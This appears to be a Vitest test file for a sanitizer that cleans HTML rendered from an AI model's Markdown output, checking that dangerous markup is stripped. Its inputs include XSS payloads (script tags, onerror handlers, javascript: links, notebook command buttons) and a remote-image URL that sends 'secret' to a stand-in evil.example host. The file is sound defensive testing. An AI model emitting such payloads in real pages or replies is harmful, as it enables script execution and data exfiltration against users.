import { describe, expect, it } from 'vitest';

import { createSanitizer } from '../../src/markdown/sanitizer';

const sanitizer = createSanitizer('remote image');

function clean(html: string): HTMLElement {
  const host = document.createElement('div');
  host.innerHTML = sanitizer.sanitize(html);
  return host;
}

describe('what a model says', () => {
  it.each([
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<a href="javascript:alert(1)">x</a>',
    '<svg onload=alert(1)><script>1</script></svg>',
    '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>',
    '<iframe srcdoc="<script>1</script>"></iframe>',
    '<form action="/x"><input name=a><button>Go</button></form>',
    '<button data-commandlinker-command="notebook:run-all">x</button>',
    '<div data-commandlinker-command="x" onclick="1" id="main" name="y" style="position:fixed">x</div>',
    '<style>body{display:none}</style>',
    '<link rel=stylesheet href=//evil>',
    '<base href=//evil>',
    '<object data=//evil></object>',
    '<video src=//evil autoplay></video>',
    '<a href="x" ping="//evil">x</a>',
    '<input type="image" src="//evil">'
  ])('does nothing: %s', html => {
    const host = clean(html);
    const all = [...host.querySelectorAll('*')];
    expect(
      all.filter(node =>
        /^(script|svg|math|iframe|form|button|style|link|base|object|video)$/i.test(node.tagName)
      )
    ).toEqual([]);
    const names = all.flatMap(node => [...node.attributes].map(attribute => attribute.name));
    expect(names.filter(name => /^(on|data-|id$|name$|style$|ping$|srcset$|formaction$)/.test(name))).toEqual(
      []
    );
    expect(all.filter(node => /^\s*javascript:/i.test(node.getAttribute('href') ?? ''))).toEqual([]);
    expect(host.querySelector('img[src], input[src]')).toBeNull();
  });

  it('fetches no image from elsewhere; a link stands in its place', () => {
    const host = clean(
      '<p><img src="https://evil.example/?q=secret" alt="a plot" srcset="https://evil.example 2x"></p>'
    );
    expect(host.querySelector('img')).toBeNull();
    const link = host.querySelector('a');
    expect(link?.textContent).toBe('[remote image: a plot]');
    expect(link?.rel).toBe('noopener noreferrer');
  });

  it('keeps an image that is in the message itself', () => {
    const source = 'data:image/png;base64,iVBORw0KGgo=';
    expect(clean(`<img src="${source}" alt="x">`).querySelector('img')?.getAttribute('src')).toBe(source);
    expect(clean('<img src="data:image/svg+xml;base64,PHN2Zz4=">').querySelector('img')).toBeNull();
  });

  it('keeps what Markdown makes', () => {
    const html =
      '<h2>a</h2><p><strong>b</strong> <code class="language-x">c</code></p><ul><li><input type="checkbox" checked> d</li></ul>';
    const host = clean(html + '<table><thead><tr><th align="left">e</th></tr></thead></table>');
    expect(host.querySelectorAll('h2, strong, code, li, th')).toHaveLength(5);
    expect(host.querySelector('input')?.disabled).toBe(true);
  });

  it('opens links in a tab of their own', () => {
    const link = clean('<a href="https://example.org">x</a>').querySelector('a');
    expect([link?.target, link?.rel]).toEqual(['_blank', 'noopener noreferrer']);
  });
});
